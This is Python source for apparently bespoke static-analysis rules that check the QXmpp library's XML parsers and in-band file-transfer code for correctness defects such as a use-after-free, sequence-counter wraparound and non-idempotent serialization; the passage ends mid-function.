    r9 = run.rule('C02.R9', 'a table indexed by a value of an enum (operator[], at()) has an entry for every enumerator the index can hold at that point: no out-of-range read and '
                            'no std::out_of_range from a parser (= the index clause of C01.R3)', floor=10)
    sub = type(run)(run.prop, run.tier, run.seed)
    C01.rule_tables(prog, sub)
    for v in sub.violations:
        if '#index:' in v['key']:
            run.rules[r9]['matched'] += 1
            run.violation(r9, v['key'], v['site'], v['what'], v['path'])
    for r in sub.rules.values():
        run.rules[r9]['matched'] += r['matched']
        run.rules[r9]['obligations'] += r['discharged']
        run.rules[r9]['discharged'] += r['discharged']
        run.rules[r9]['samples'] += r['samples'][:3]

    r10 = run.rule('C02.R10', 'the first / last element of a list is taken (first, constFirst, last, takeFirst, front, back, ...) only behind a test that the list is not empty, or '
                              'from a list that cannot be empty (result of split); listed exceptions carry their reason', floor=10)
    run.extra['first_element_sites'] = rule_first_of_nonempty(prog, run, r10)
    rule_listener_moves_out(prog, run)
    rule_saved_markup(prog, run)
    rule_offset_no_wrap(prog, run)
    rule_integer_fixpoint(prog, run)
    rule_presence_checks(prog, run)

    r5 = run.rule('C02.R5', 'parsers terminate on sibling lists: every loop guarded by isNull() of a local DOM node advances that node on every path back to '
                            'the loop head (continue included)', floor=18)
    run.extra['dom_loops'] = rule_loop_progress(prog, run, r5)

    r6 = run.rule('C02.R6', 'parsing does not depend on the order of sibling elements through value flow: inside a per-child dispatch no member is set from a '
                            'different member written by another child\'s arm', floor=40)
    run.extra['per_child_dispatchers'] = rule_sibling_order(prog, run, r6)

    r7 = run.rule('C02.R7', 'no counting loop runs up to a caller-supplied unsigned bound with <= (non-termination at the maximal value)', floor=0)
    run.extra['loops_scanned'] = rule_unsigned_le(prog, run, r7)
    r8 = run.rule('C02.R8', 'objects collected by a parse loop are fresh in every iteration (declared in the loop body or reassigned as a whole)', floor=20)
    run.extra['collected_objects'] = rule_fresh_per_iteration(prog, run, r8)

    # positive controls: the zero-expected rules must fire on controls/c02_controls.cpp
    rc = run.rule('C02.controls', 'positive controls: R1, R2, R3, R5, R6, R7 and R8 each report their seeded construct in controls/c02_controls.cpp', floor=7)
    cpath = os.path.join(build.VERIF, 'controls', 'c02_controls.cpp')
    cprog = facts.Program(build.extract_control(cpath))
    bad = [u for u in cprog.units.values() if u.bad_diags()]
    if bad:
        raise AnalysisBroken('C02 control does not compile: %s' % bad[0].bad_diags()[:2])
    for name, fn, want in (('R1', lambda s, r: rule_init(cprog, s, r, control=True), 'never_set'),
                           ('R2', lambda s, r: rule_enum_casts(cprog, s, r), 'cast_unchecked'),
                           ('R3', lambda s, r: rule_taint(cprog, s, r), 'taint_'),
                           ('R5', lambda s, r: rule_loop_progress(cprog, s, r), 'loop_no_progress'),
                           ('R6', lambda s, r: rule_sibling_order(cprog, s, r), 'parseOrderDependent'),
                           ('R7', lambda s, r: rule_unsigned_le(cprog, s, r), 'ack_up_to'),
                           ('R8', lambda s, r: rule_fresh_per_iteration(cprog, s, r), 'parseStaleItem')):
        sub = type(run)(run.prop, run.tier, run.seed)
        rr = sub.rule('x', 'x')
        fn(sub, rr)
        run.instance(rc)
        if any(want in v['key'] or want in v['what'] for v in sub.violations):
            run.ok(rc, 'controls/c02_controls.cpp', '%s fires on its control (%d reports)' % (name, len(sub.violations)))
        else:
            raise AnalysisBroken('C02.%s does not fire on its positive control (%s): the rule is dead' % (name, want))


# --------------------------------------------------------------------------- R11: stream listeners complete only moved-out promises
def _this_rooted(f, nid, depth=0):
    """the expression denotes storage inside *this (a member, reached through members / optional / references), not a local value"""
    n = f.nodes[f.skip(nid)]
    k = n.get('k')
    if k == 'this':
        return True
    if k == 'mem':
        return 'base' not in n or _this_rooted(f, n['base'], depth)
    if k == 'call' and n.get('op') in ('*', '->') and n.get('opargs'):
        return _this_rooted(f, n['opargs'][0], depth)
    if k == 'call' and (f.sym(n) or {}).get('name') in ('value', 'get', 'operator*', 'operator->') and n.get('obj') is not None:
        return _this_rooted(f, n['obj'], depth)
    if k == 'un' and n.get('op') in ('*', '&'):
        return _this_rooted(f, n['e'], depth)
    if k == 'var' and n.get('vk') == 'local' and depth < 4:
        t = n.get('t') or ''
        if t.rstrip().endswith(('&', '*')) and 'remove_reference' not in t:
            d = f.single_def(n.get('decl'))
            return d is not None and _this_rooted(f, d, depth + 1)
    return False


def listener_model(prog):
    """the stream-listener variant of the outgoing client: (field, by-value alternatives, by-pointer alternatives, replaces_listener(fn))"""
    cands = []
    for r in prog.records.values():
        for fl in r.get('fields', []):
            t = fl.get('t') or ''
            if t.startswith('std::variant<'):
                alts = [_qualify(prog, a.strip()) for a in _split_targs(t)]
                vals = [a for a in alts if not a.endswith('*') and prog.fns_named(a + '::handleElement')]
                if len(vals) >= 2:
                    cands.append((fl.get('qname') or r['qname'] + '::' + fl['name'], vals, [a.rstrip(' *') for a in alts if a.endswith('*')], r))
    if len(cands) != 1:
        raise AnalysisBroken('the stream-listener variant was not identified (%d candidates)' % len(cands))
    field, vals, ptrs, rec = cands[0]
    replaces = {}

    def replaces_listener(g, depth=0):
        if g.id in replaces:
            return replaces[g.id]
        replaces[g.id] = False
        r = False
        for h in prog.closure(g):
            for i, n in h.all_nodes('assign'):
                if h.nodes[h.skip(n['l'])].get('f') == field:
                    r = True
            for i, n in h.calls():
                if n.get('obj') is not None and h.nodes[h.skip(n['obj'])].get('f') == field and (h.sym(n) or {}).get('name') in ('emplace', 'operator=', 'swap'):
                    r = True
                if n.get('op') == '=' and n.get('opargs') and h.nodes[h.skip(n['opargs'][0])].get('f') == field:
                    r = True
                if not r and depth < 6:
                    for c in prog.callee_fns(h, n):
                        if c.entry is not None and '/src/client/' in c.file and replaces_listener(c, depth + 1):
                            r = True
        replaces[g.id] = r
        return r
    return field, vals, ptrs, replaces_listener, rec


def listener_continuations(prog, vals):
    """continuations attached (QXmppTask::then) to a task handed out by one of the listener classes: [(listener class, fn, call id, [lambda Fn])]"""
    out = []
    for f in prog.fns.values():
        if '/src/client/' not in f.file or f.entry is None:
            continue
        for i, n in f.calls():
            s = f.sym(n) or {}
            if s.get('name') != 'then' or 'QXmppTask' not in (s.get('record') or '') or n.get('obj') is None:
                continue
            owners = set()
            stack = [n['obj']]
            seen = set()
            while stack:
                x = f.skip(stack.pop())
                if x in seen:
                    continue
                seen.add(x)
                for y in f.walk(x):
                    m = f.nodes[y]
                    if m.get('k') == 'call':
                        ms = f.sym(m) or {}
                        for v in vals:
                            if ms.get('record') == v or (ms.get('ret') or '').replace('&', '').strip() == v or ('<' + v + '>') in (f.cname(m) or ''):
                                owners.add(v)
                    if m.get('k') == 'var' and m.get('vk') == 'local':
                        d = f.single_def(m.get('decl'))
                        if d is not None:
                            stack.append(d)
            if not owners:
                continue
            lams = [l for a in n.get('args', []) for l in prog.lambda_fns(f, f.nodes[f.skip(a)])] or \
                   [l for a in n.get('args', []) for y in f.walk(a) for l in prog.lambda_fns(f, f.nodes[y])]
            for v in sorted(owners):
                out.append((v, f, i, lams))
    return out


def rule_listener_moves_out(prog, run):
    rid = run.rule('C02.R11', 'an object stored by value in the stream-listener variant completes a promise only after moving it out of itself when a continuation attached to its task '
                              'replaces the listener (the continuation destroys the object while finish() is still running on its member: use after free on an ordinary server answer)', floor=3)
    field, vals, ptrs, replaces_listener, _rec = listener_model(prog)
    run.extra['listener_variant'] = {'field': field, 'by_value': vals, 'by_pointer': ptrs}
    dangerous = {}
    for v, f, i, lams in listener_continuations(prog, vals):
        for l in lams:
            if replaces_listener(l):
                dangerous.setdefault(v, (f, i))
    nfin = 0
    for v in vals:
        for g in prog.fns.values():
            if not (g.qname.startswith(v + '::') or (g.is_lambda and g.outer_name().startswith(v + '::'))) or g.entry is None:
                continue
            for i, n in g.calls():
                s = g.sym(n) or {}
                if s.get('name') != 'finish' or 'QXmppPromise' not in (s.get('record') or '') or n.get('obj') is None:
                    continue
                nfin += 1
                run.instance(rid)
                inplace = _this_rooted(g, n['obj'])
                if inplace and v in dangerous:
                    cf, ci = dangerous[v]
                    run.violation(rid, '%s#finishes-member-promise' % g.outer_name(), g.loc(i),
                                  '%s completes a promise that still lives inside the listener object (%s); the continuation attached at %s replaces the stream listener, which destroys '
                                  'this object while finish() runs on it' % (g.display()[:60], g.fmt(n['obj'], inline=False)[:50], cf.loc(ci)))
                else:
                    run.ok(rid, g.loc(i), ('moved out before completion' if not inplace else 'completed in place; no continuation of this listener replaces the listener'), nontrivial=not inplace)
    run.extra['listener_finish_sites'] = nfin
    run.extra['listeners_with_replacing_continuation'] = sorted(dangerous)


def _qualify(prog, a):
    """the type as written in the variant -> the qualified record name"""
    star = ' *' if a.endswith('*') else ''
    a = a.rstrip(' *')
    for q in prog.records:
        if q == a or q.endswith('::' + a):
            return q + star
    return a + star


def _split_targs(t):
    inner = t[t.index('<') + 1:t.rindex('>')]
    out, depth, cur = [], 0, ''
    for ch in inner:
        if ch == '<':
            depth += 1
        elif ch == '>':
            depth -= 1
        if ch == ',' and depth == 0:
            out.append(cur)
            cur = ''
        else:
            cur += ch
    out.append(cur)
    return out


# --------------------------------------------------------------------------- R12: serialized markup is not cut by tag text
def rule_saved_markup(prog, run):
    rid = run.rule('C02.R12', 'text that a parser obtains by saving DOM nodes (QDomNode::save into a string) is not edited by searching for or removing tag text (a literal containing '
                              '"<" or ">"): the same characters occur in nested elements and in text / CDATA, so such a cut leaves markup that is no longer well-formed or drops '
                              'content - what is wanted is selected on the DOM (children saved one by one)', floor=1)
    n = 0
    for f in prog.fns.values():
        if f.entry is None or '/src/' not in f.file:
            continue
        saves = [(i, c) for i, c in f.calls() if (f.cname(c) or '') == 'QDomNode::save' and c.get('args')]
        if not saves:
            continue
        # the strings the streams write into
        targets = []
        for i, c in saves:
            st = f.nodes[f.resolve(c['args'][0])]
            stack = [c['args'][0]]
            sn = f.nodes[f.skip(c['args'][0])]
            if sn['k'] == 'var' and sn.get('vk') == 'local':
                stack += [d for d in f.all_defs(sn.get('decl')) if d is not None]
            for x in stack:
                for j in f.walk(x):
                    m = f.nodes[j]
                    if m['k'] == 'construct' and 'QTextStream' in (m.get('cls') or '') and m.get('args'):
                        for z in f.walk(m['args'][0]):
                            zn = f.nodes[z]
                            if zn['k'] in ('mem', 'var') and 'QString' in (zn.get('t') or ''):
                                targets.append(zn.get('f') or ('decl:%s' % zn.get('decl')))
        if not targets:
            continue
        n += 1
        run.instance(rid)
        bad = None
        for i, c in f.calls():
            if c.get('obj') is None or (f.sym(c) or {}).get('name') not in ('replace', 'remove', 'indexOf', 'lastIndexOf', 'split', 'section', 'startsWith', 'endsWith', 'contains'):
                continue
            o = f.nodes[f.skip(c['obj'])]
            key = o.get('f') or ('decl:%s' % o.get('decl'))
            if key not in targets:
                continue
            for a in c.get('args', []):
                cv = f.const_value(a)
                lit = f.strval(a) if f.strval(a) is not None else (chr(cv[1]) if cv and cv[0] in ('char', 'int') and isinstance(cv[1], int) and 0 < cv[1] < 128 else None)
                if lit and ('<' in lit or '>' in lit):
                    bad = (i, lit)
        if bad:
            run.violation(rid, '%s#saved-markup-cut' % f.outer_name(), f.loc(bad[0]),
                          '%s edits text it obtained from QDomNode::save() by looking for "%s": a nested element or text with the same characters is cut as well, and the object '
                          'serializes to markup that is not well-formed (or loses content)' % (f.display()[:50], bad[1]))
        else:
            run.ok(rid, f.loc(saves[0][0]), 'saved DOM text is not cut by tag literals')
    if not n:
        raise AnalysisBroken('C02.R12: no parser saves DOM nodes into a string any more (QXmppMessage::parseExtension, XHTML-IM expected)')


# --------------------------------------------------------------------------- R13: offsets are not formatted through a clock type
def rule_offset_no_wrap(prog, run):
    rid = run.rule('C02.R13', 'the timezone offset (seconds, parsed from up to 99:59) is not formatted through QTime: QTime arithmetic wraps at 24 hours, so a received "+24:00" would be '
                              'written as "+00:00" and read back as "Z" - one parse/serialize pass would not be a fix-point', floor=1)
    f = prog.fn('QXmppUtils::timezoneOffsetToString')
    run.instance(rid)
    bad = [i for i, n in f.calls() if (f.cname(n) or '').startswith('QTime::') and (f.cname(n) or '').split('::')[-1] in ('addSecs', 'addMSecs', 'fromMSecsSinceStartOfDay', 'toString')] + \
          [i for i, n in f.all_nodes('construct') if (n.get('cls') or '') == 'QTime' and n.get('args')]
    # the largest offset the parser accepts must fit the two hour digits the parser itself insists on
    pf = prog.fn('QXmppUtils::timezoneOffsetFromString')
    lits = [pf.nodes[j]['v'] for j in range(len(pf.nodes)) if pf.nodes[j]['k'] == 'str' and '([+-])' in pf.nodes[j].get('v', '')]
    run.instance(rid)
    if len(lits) != 1:
        run.ok(rid, pf.loc(), 'offset syntax not given as one regular expression: range not evaluated', nontrivial=False)
    else:
        groups = re.findall(r'\(((?:\[[^\]]+\](?:\{\d+\})?)+)\)', lits[0].split('([+-])', 1)[1])

        def gmax(g):
            digits = ''
            for cls, rep in re.findall(r'\[([^\]]+)\](?:\{(\d+)\})?', g):
                top = max(int(ch) for ch in re.findall(r'\d', cls))
                digits += str(top) * int(rep or 1)
            return int(digits) if digits else None
        mx = [gmax(g) for g in groups[:2]]
        if len(mx) == 2 and None not in mx:
            hours_written = (mx[0] * 60 + mx[1]) // 60
            if len(str(hours_written)) > len(str(mx[0])):
                run.violation(rid, 'timezoneOffsetFromString#accepts-more-than-it-can-write', pf.loc(),
                              'the parser accepts offsets up to %d:%02d; the largest one is written with %d hours - more hour digits than the parser reads - so the next pass '
                              'no longer recognises it' % (mx[0], mx[1], hours_written))
            else:
                run.ok(rid, pf.loc(), 'largest accepted offset %d:%02d is written as %d hours: within the syntax the parser reads' % (mx[0], mx[1], hours_written))
        else:
            run.ok(rid, pf.loc(), 'offset syntax has a form the checker does not evaluate', nontrivial=False)
    if bad:
        run.violation(rid, 'timezoneOffsetToString#formats-through-QTime', f.loc(bad[0]),
                      'timezoneOffsetToString formats the offset through QTime (%s): offsets of 24 hours and more wrap, the written value differs from the parsed one and the '
                      'next pass changes it again' % f.fmt(bad[0], inline=False)[:50])
    else:
        run.ok(rid, f.loc(), 'hours and minutes are computed arithmetically')


# --------------------------------------------------------------------------- R14: integers survive the second pass
def rule_integer_fixpoint(prog, run):
    rid = run.rule('C02.R14', 'an integer a parser accepts is written back in a form the same parser accepts with the same value: the text conversion is neither narrower than the member '
                              'nor unsigned into a signed member of the same width (= C01.R11; a count or priority in the upper half of the unsigned range would be written with a minus '
                              'sign and dropped or zeroed on the next pass)', floor=1)
    fns = [f for f in prog.fns.values() if '/src/' in f.file]
    found = [x for x in C01._reader_shape_findings(prog, fns) if x[0] == 'R11']
    run.instance(rid)
    if found:
        for r, f, i, key, msg in found:
            run.violation(rid, key, f.loc(i), msg)
    else:
        run.ok(rid, 'src', 'no narrowing / sign-changing text conversion among the parse functions')


# --------------------------------------------------------------------------- R15: element checks do not insist on what the writer may omit
def rule_presence_checks(prog, run):
    rid = run.rule('C02.R15', 'an element-type check (static bool isX(const QDomElement &)) that insists on the mere presence of an attribute (hasAttribute) belongs to a class whose '
                              'writer emits that attribute unconditionally: where the writer omits an empty value (writeOptionalXmlAttribute), an element with the attribute present '
                              'but empty is accepted, written back without it and then no longer recognised - one parse/serialize pass is not a fix-point', floor=2)
    n = 0
    for g in prog.fns.values():
        if g.entry is None or g.is_lambda or '/src/base/' not in g.file or g.raw.get('dependent') or not g.record or len(g.params) != 1 or 'QDomElement' not in (g.params[0].get('t') or ''):
            continue
        if (g.raw.get('ret') or '') != 'bool' or not g.name.startswith('is'):
            continue
        needs = []
        par = g.parents()
        for i, c in g.calls():
            if (g.cname(c) or '') == 'QDomElement::hasAttribute' and c.get('args') and g.strval(c['args'][0]):
                # "insists": the test is part of a returned value, or its negation leads straight to "return false" - not a presence test that merely guards a
                # validation of the value (if (has) { if (!valid) return false; })
                up, neg, in_ret = par.get(i), False, False
                while up is not None and g.nodes[up]['k'] in ('un', 'bin', 'paren', 'icast', 'cast', 'ret'):
                    if g.nodes[up]['k'] == 'un' and g.nodes[up].get('op') == '!':
                        neg = not neg
                    if g.nodes[up]['k'] == 'ret':
                        in_ret = True
                    up = par.get(up)
                leads_to_false = False
                if neg and not in_ret:
                    for b in g.blocks.values():
                        t = b.get('term')
                        if t and t.get('cond') is not None and i in set(g.walk(t['cond'])) and b['succs'] and b['succs'][0] is not None:
                            leads_to_false = any(g.nodes[e]['k'] == 'ret' and 'e' in g.nodes[e] and g.const_value(g.nodes[e]['e']) == ('bool', False) for e in g.blocks[b['succs'][0]]['elems'])
                if in_ret or leads_to_false:
                    needs.append((i, g.strval(c['args'][0])))
        if not needs:
            continue
        T = g.record
        writers = [w for w in prog.fns.values() if w.entry is not None and not w.is_lambda and any('QXmlStreamWriter' in (p_.get('t') or '') for p_ in w.params)
                   and (w.record == T or (w.record or '').startswith(T.split('<')[0]) or (T.startswith(w.record or '#') and w.record))]
        if not writers:
            continue
        for i, name in needs:
            n += 1
            run.instance(rid)
            optional = [(w, j) for w in writers for j, c in w.calls() if (w.cname(c) or '') == 'QXmpp::Private::writeOptionalXmlAttribute' and len(c.get('args', [])) > 1
                        and w.strval(c['args'][1]) == name]
            always = [(w, j) for w in writers for j, c in w.calls() if (w.cname(c) or '') == 'QXmlStreamWriter::writeAttribute' and c.get('args') and w.strval(c['args'][0]) == name]
            if optional and not always:
                w, j = optional[0]
                run.violation(rid, '%s#presence-of:%s' % (g.qname, name), g.loc(i),
                              '%s insists on the presence of the attribute "%s", which %s writes only when its value is not empty: <... %s=""/> is accepted, loses the attribute '
                              'when written back, and is not recognised on the next pass' % (g.qname, name, w.qname, name))
            else:
                run.ok(rid, g.loc(i), '%s: "%s" is %s' % (g.qname.split('::')[-1], name, 'always written' if always else 'not written through the optional helper'), nontrivial=bool(always))
    if n < 2:
        raise AnalysisBroken('C02.R15: element checks with attribute-presence tests not found')
