"""C19 — a file transfer reported successful delivered exactly the bytes that were sent (structural clauses)."""
from .. import cfgx
from ..build import AnalysisBroken
from ..effects import top_function

UNITS = ['client/QXmppTransferManager.cpp', 'base/QXmppIbbIq.cpp']
TM = 'QXmppTransferManager'
IJ = 'QXmppTransferIncomingJob'
SEQ = 'QXmppTransferJobPrivate::ibbSequence'


def run(prog, run):
    run.explanation = ('Counter/wire width agreement of the in-band block sequence (types of the wire field, the sender\'s counter and the receiver\'s '
                       'expectation), abstract evaluation of the receiving handlers under "unknown session/sender", "wrong sequence number" and "oversized '
                       'block" (no write, error reply), and of the final verdict under "size differs" / "hash differs" (success unreachable); success on an '
                       'incoming job is declared in one place; written bytes are what is counted and hashed.')
    run.assume('byte-for-byte equality for all sizes/contents, and corruption detection when the offer carries neither size nor hash, are outside any static rule')
    r1(prog, run)
    r2(prog, run)
    r3(prog, run)
    r4(prog, run)
    r5(prog, run)
    r6(prog, run)
    r7(prog, run)
    r8(prog, run)
    r9(prog, run)


def r1(prog, run):
    rid = run.rule('C19.R1', 'the IBB block counter has the width of the wire field (unsigned 16 bit) on the sending and on the receiving side', floor=3)
    rec = prog.record('QXmppIbbDataIq')
    wire = [fl for fl in rec['fields'] if fl['name'] == 'm_seq']
    if not wire:
        raise AnalysisBroken('C19.R1: QXmppIbbDataIq::m_seq not found')
    wire_tc = wire[0]['tc']
    priv = prog.record('QXmppTransferJobPrivate')
    cnt = [fl for fl in priv['fields'] if fl['name'] == 'ibbSequence']
    if not cnt:
        raise AnalysisBroken('C19.R1: QXmppTransferJobPrivate::ibbSequence not found')
    run.instance(rid)
    site = 'src/client/QXmppTransferManager.cpp:%d' % cnt[0]['line']
    if cnt[0]['tc'] == wire_tc:
        run.ok(rid, site, 'counter %s and wire field %s have the same type (%s)' % (cnt[0]['t'], wire[0]['t'], wire_tc))
    else:
        run.violation(rid, 'ibbSequence#width', site,
                      'the per-job block counter is %s (%s) but the wire field QXmppIbbDataIq::m_seq is %s (%s): after 65536 blocks the sender wraps to 0 while '
                      'the receiver expects 65536, so long transfers fail' % (cnt[0]['t'], cnt[0]['tc'], wire[0]['t'], wire_tc))
    # sender: no narrowing conversion at setSequence
    for f in prog.fns.values():
        for i, n in f.calls('QXmppIbbDataIq::setSequence'):
            run.instance(rid)
            a = f.nodes[n['args'][0]]
            if a['k'] == 'icast' and a.get('to') == wire_tc and a.get('from') != wire_tc and a.get('from', '').startswith('int') \
                    and not any(x in f.fmt(n['args'][0], inline=False) for x in ('& 65535', '% 65536')):
                src_n = f.nodes[f.skip(a['e'])]
                # an expression on a 16-bit unsigned field promoted to int is fine (value already wrapped)
                base = None
                for j in f.walk(a['e']):
                    if f.nodes[j]['k'] == 'mem':
                        base = f.nodes[j]
                if base is not None and base.get('tc') == wire_tc:
                    run.ok(rid, f.loc(i), 'setSequence(%s): operand is a %s field' % (f.fmt(n['args'][0], inline=False)[:40], wire_tc))
                else:
                    run.violation(rid, '%s#setSequence-narrowing' % top_function(prog, f).qname, f.loc(i),
                                  'setSequence(%s) narrows %s to the 16-bit wire field without reducing the counter modulo 2^16 consistently with the receiver'
                                  % (f.fmt(n['args'][0], inline=False)[:40], a.get('from')))
            else:
                run.ok(rid, f.loc(i), 'setSequence(%s): no narrowing' % f.fmt(n['args'][0], inline=False)[:40])
    # receiver: comparison operands
    rx = prog.fn(TM + '::ibbDataIqReceived')
    found = False
    for i in range(len(rx.nodes)):
        bo = rx.binop(i)
        if bo and bo[0] in ('!=', '==') and 'QXmppIbbDataIq::sequence()' in rx.fmt(i):
            found = True
            run.instance(rid)
            other = bo[2] if 'sequence()' in rx.fmt(bo[1]) else bo[1]
            on = None
            top_n = rx.nodes[rx.skip(other)]
            if top_n['k'] == 'icast':
                top_n = rx.nodes[rx.skip(top_n['e'])]
            if top_n['k'] == 'mem':
                on = top_n
            if on is not None and on.get('tc') == wire_tc:
                run.ok(rid, rx.loc(i), 'receiver compares sequence() with a %s expectation' % wire_tc)
            else:
                run.violation(rid, 'ibbDataIqReceived#expectation-width', rx.loc(i),
                              'the received 16-bit sequence number is compared with %s (%s), which does not wrap at 65536' % (rx.fmt(other, inline=False)[:40], (on or {}).get('tc')))
    if not found:
        raise AnalysisBroken('C19.R1: sequence comparison not found in ibbDataIqReceived')


def r2(prog, run):
    rid = run.rule('C19.R2', 'a block is written only for a known (sender, session) job in transfer state with the expected sequence number; rejected blocks '
                             'get an error and are not written; the expectation advances after the write', floor=6)
    rx = prog.fn(TM + '::ibbDataIqReceived')
    writes = [i for i, n in rx.calls(IJ + '::writeData')]
    incs = [i for i, n in rx.all_nodes('un') if n['op'] in ('post++', 'pre++') and rx.nodes[rx.skip(n['e'])].get('f') == SEQ]
    incs += [i for i, n in rx.all_nodes('assign') if rx.nodes[rx.skip(n['l'])].get('f') == SEQ]
    if not writes or not incs:
        raise AnalysisBroken('C19.R2: writeData / sequence advance not found in ibbDataIqReceived')

    # the job is the local that holds the result of the (sender, session id) lookup
    job_decl = {d['var'] for _, n in rx.all_nodes('decl') for d in n['decls']
                if d.get('init') is not None and rx.nodes[rx.skip(d['init'])]['k'] == 'call' and rx.cname(rx.nodes[rx.skip(d['init'])]).endswith('::getIncomingJobBySid')}
    if len(job_decl) != 1:
        raise AnalysisBroken('C19.R2: the local holding the looked-up job not found in ibbDataIqReceived')
    job_decl = job_decl.pop()

    def is_job(f, nid):
        m = f.nodes[f.skip(nid)]
        return m['k'] == 'var' and m.get('decl') == job_decl and f.id == rx.id

    def case(kind):
        def custom(f, nid, st):
            n = f.nodes[nid]
            bo = f.binop(nid)
            if kind == 'nojob' and n['k'] == 'un' and n['op'] == '!' and is_job(f, n['e']):
                return (True,)
            if kind == 'nojob' and is_job(f, nid) and n['k'] == 'var':
                return (False,)
            if kind != 'nojob' and n['k'] == 'un' and n['op'] == '!' and is_job(f, n['e']):
                return (False,)
            if kind == 'wrongstate' and bo and bo[0] in ('!=', '==') and 'QXmppTransferJob::state()' in f.fmt(nid) and 'TransferState' in f.fmt(nid):
                return (bo[0] == '!=',)
            if kind == 'wrongmethod' and bo and bo[0] in ('!=', '==') and 'QXmppTransferJob::method()' in f.fmt(nid) and 'InBandMethod' in f.fmt(nid):
                return (bo[0] == '!=',)
            if kind == 'wrongseq' and bo and bo[0] in ('!=', '==') and 'QXmppIbbDataIq::sequence()' in f.fmt(nid) and 'ibbSequence' in f.fmt(nid):
                return (bo[0] == '!=',)
            return None
        ev = cfgx.Evaluator(rx, {}, custom=custom)
        return lambda f, c, st: ev.ev(c, st)
    for kind, label in (('nojob', 'no job for this sender and session id'), ('wrongstate', 'the job is not in transfer state'),
                        ('wrongmethod', 'the job does not use in-band transfer'), ('wrongseq', 'the sequence number is not the expected one')):
        run.instance(rid)
        evc = case(kind)
        res = cfgx.sink_reachability(rx, evc, writes + incs)

        def transfer(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'call' and f.cname(n) == 'QXmppIq::setType' and n.get('args'):
                v = f.const_value(n['args'][0])
                return st + ((v[1].split('::')[-1] if v else '?'),)
            if n['k'] == 'call' and not n.get('op'):
                # a same-file helper that turns the response it is handed into an error reply
                for g in prog.callee_fns(f, n):
                    if g.file == f.file and g.entry is not None and g.id != f.id:
                        for j, m in g.calls('QXmppIq::setType'):
                            o = g.nodes[g.skip(m['obj'])] if m.get('obj') is not None else {}
                            v = g.const_value(m['args'][0]) if m.get('args') else None
                            pos = g.pos(j)
                            if o.get('vk') == 'param' and v and pos and (pos[0] == g.entry or ('b', pos[0]) in g.pdom().get(('b', g.entry), set())):
                                return st + (v[1].split('::')[-1],)
            return None
        exits, _ = cfgx.explore(rx, (), transfer, evc)
        if any(res[x] is not None for x in writes + incs):
            run.violation(rid, 'ibbDataIqReceived#%s#written' % kind, rx.loc(writes[0]), 'a block is written (or the expectation advanced) although %s' % label)
        elif any('Error' not in st for st in exits):
            run.violation(rid, 'ibbDataIqReceived#%s#acknowledged' % kind, rx.loc(), 'a block is acknowledged although %s' % label)
        else:
            run.ok(rid, rx.loc(), '%s: not written, error reply' % label)
    run.instance(rid)
    lookup = [n for i, n in rx.calls() if rx.cname(n).endswith('::getIncomingJobBySid')]
    if lookup and [rx.fmt(a) for a in lookup[0]['args']] == ['p0.QXmppStanza::from()', 'p0.QXmppIbbDataIq::sid()']:
        run.ok(rid, rx.loc(), 'job looked up by (iq.from(), iq.sid())')
    else:
        run.violation(rid, 'ibbDataIqReceived#job-lookup', rx.loc(), 'the receiving job is not selected by sender and session id')
    run.instance(rid)
    if all(any(rx.node_dominates(w, i) for w in writes) for i in incs):
        run.ok(rid, rx.loc(incs[0]), 'the expected sequence number advances only after the block was written')
    else:
        run.violation(rid, 'ibbDataIqReceived#advance-before-write', rx.loc(incs[0]), 'the expectation advances on a path that did not write the block')
    # open: block size bound; close: goes through checkData
    op = prog.fn(TM + '::ibbOpenIqReceived')
    run.instance(rid)
    if any(op.binop(i) and op.binop(i)[0] in ('>', '>=') and 'QXmppIbbOpenIq::blockSize()' in op.fmt(i) and 'ibbBlockSize' in op.fmt(i) for i in range(len(op.nodes))):
        run.ok(rid, op.loc(), 'open: block size bounded by the configured maximum')
    else:
        run.violation(rid, 'ibbOpenIqReceived#block-size', op.loc(), 'the announced block size is not bounded')
    cl = prog.fn(TM + '::ibbCloseIqReceived')
    run.instance(rid)
    if any(True for _ in cl.calls(IJ + '::checkData')) and not any(cl.cname(n).endswith('::terminate') for _, n in cl.calls()):
        run.ok(rid, cl.loc(), 'close: verdict delegated to checkData()')
    else:
        run.violation(rid, 'ibbCloseIqReceived#verdict', cl.loc(), 'closing the stream decides the outcome without checkData()')


def r3(prog, run):
    rid = run.rule('C19.R3', 'an incoming job reports success only from checkData(), and only if the announced size and hash match what was received', floor=3)
    cd = prog.fn(IJ + '::checkData')
    NOERR = ('enum', 'QXmppTransferJob::NoError')

    def success_arm(f, arg):
        """None: the argument is never NoError; 'always': it is NoError; (cond, polarity): `cond ? NoError : x` / `cond ? x : NoError`"""
        a = f.resolve(arg)
        if f.const_value(a) == NOERR:
            return 'always'
        m = f.nodes[f.skip(a)]
        if m['k'] == 'cond':
            if f.const_value(f.resolve(m['a'])) == NOERR:
                return (m['c'], True)
            if f.const_value(f.resolve(m['b'])) == NOERR:
                return (m['c'], False)
        if m['k'] == 'var' and m.get('vk') == 'local' and f.single_def(m['decl']) is None and any(f.const_value(x) == NOERR for x in f.all_defs(m['decl'])):
            return ('var', m['decl'])       # Error result = NoError; if (mismatch) result = FileCorruptError; terminate(result);
        return None
    ok_calls = [i for i, n in cd.calls() if cd.cname(n).endswith('::terminate') and n.get('args') and success_arm(cd, n['args'][0]) is not None]
    if not ok_calls:
        raise AnalysisBroken('C19.R3: terminate(NoError) not found in checkData')

    def case(kind):
        holder = {}

        def custom(f, nid, st):
            n = f.nodes[nid]
            bo = f.binop(nid)
            t = f.fmt(nid)
            # the announcement is assumed for the case under test: the announced size is non-zero (true in a boolean context, whatever the spelling:
            # "size() && differs", "!size() || equal", guard clauses)
            if kind == 'size' and n['k'] == 'call' and f.cname(n) == 'QXmppTransferFileInfo::size':
                return (True,)
            if kind == 'size' and bo and bo[0] in ('!=', '==') and '.done' in t and 'QXmppTransferFileInfo::size()' in t:
                return (bo[0] == '!=',)
            if kind == 'hash':
                if bo and bo[0] in ('!=', '==') and 'QCryptographicHash::result()' in t and 'QXmppTransferFileInfo::hash()' in t:
                    return (bo[0] == '!=',)
                if n['k'] == 'call' and f.cname(n) == 'QByteArray::isEmpty' and n.get('obj') is not None and 'QXmppTransferFileInfo::hash()' in f.fmt(n['obj']):
                    return (False,)
            return None
        holder['ev'] = cfgx.Evaluator(cd, {}, custom=custom)

        def evc(f, c, st):
            return holder['ev'].ev(c, st)
        return evc
    for kind, label in (('size', 'a size was announced and the received byte count differs'), ('hash', 'a hash was announced and the computed hash differs')):
        run.instance(rid)
        evc = case(kind)
        res = cfgx.sink_reachability(cd, evc, ok_calls)

        def reports_success(x):
            if res[x] is None:
                return False
